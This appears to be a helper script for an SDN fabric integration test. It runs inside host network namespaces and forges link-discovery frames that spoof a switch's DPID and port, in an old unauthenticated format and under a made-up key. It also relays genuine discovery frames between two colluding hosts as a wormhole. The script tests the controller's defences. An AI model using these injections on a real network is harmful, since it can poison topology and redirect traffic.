"""What a tenant can do to the controller's link discovery from its hosts
(run as root by the fabric integration test; Python's standard library only).

    forge NS DPID PORT RATE SECONDS
        From host namespace NS, discovery frames that name switch DPID port
        PORT: alternately in the old format (no code, the attack of the issue)
        and in today's with a code under a key the tenant made up.
    relay NS_A NS_B SECONDS
        Two colluding hosts: every discovery frame the switch sends to one is
        sent on at once by the other (a wormhole: genuine frames, fresh).

Prints what it sent as JSON.
"""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import select
import socket
import struct
import sys
import time

ETHERTYPE = 0x88B5
PROBE_MAC = bytes.fromhex("02d400000001")  # the controller's default probe_mac: the switches send it up
CLONE_NEWNET = 0x40000000
_libc = ctypes.CDLL("libc.so.6", use_errno=True)


def enter(ns: str) -> None:
    """This thread joins the named network namespace."""
    fd = os.open(f"/run/netns/{ns}", os.O_RDONLY)
    try:
        if _libc.setns(fd, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), f"setns {ns}")
    finally:
        os.close(fd)


def raw_socket(ns: str) -> socket.socket:
    """A socket on eth0 of namespace ``ns`` that sees discovery frames."""
    enter(ns)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
    sock.bind(("eth0", ETHERTYPE))
    return sock


def forge(ns: str, dpid: int, port: int, rate: float, seconds: float) -> dict:
    sock = raw_socket(ns)
    src = bytes.fromhex(f"0e{dpid & 0xFFFFFFFFFF:010x}")
    key = os.urandom(32)
    sent = {"old_format": 0, "made_up_key": 0}
    deadline = time.time() + seconds
    while time.time() < deadline:
        old = struct.pack("!6s6sH4sQI", PROBE_MAC, src, ETHERTYPE, b"rdsr", dpid, port)
        sock.send(old + bytes(60 - len(old)))
        sent["old_format"] += 1
        head = struct.pack("!6s6sH4sQIQ", PROBE_MAC, src, ETHERTYPE, b"rds2", dpid, port, int(time.time() * 1e6))
        frame = head + hashlib.blake2b(head[14:], key=key, digest_size=16).digest()
        sock.send(frame + bytes(max(0, 60 - len(frame))))
        sent["made_up_key"] += 1
        time.sleep(1 / rate)
    return sent


def relay(ns_a: str, ns_b: str, seconds: float) -> dict:
    a, b = raw_socket(ns_a), raw_socket(ns_b)
    other = {a: b, b: a}
    relayed = 0
    deadline = time.time() + seconds
    while time.time() < deadline:
        ready, _w, _x = select.select([a, b], [], [], 0.1)
        for sock in ready:
            frame, (_iface, _proto, kind, *_rest) = sock.recvfrom(2048)
            if kind == socket.PACKET_OUTGOING:  # what the other end sent: not again
                continue
            other[sock].send(frame)
            relayed += 1
    return {"relayed": relayed}


def main(argv: list[str]) -> None:
    if argv[0] == "forge":
        result = forge(argv[1], int(argv[2], 0), int(argv[3]), float(argv[4]), float(argv[5]))
    elif argv[0] == "relay":
        result = relay(argv[1], argv[2], float(argv[3]))
    else:
        raise SystemExit(__doc__)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
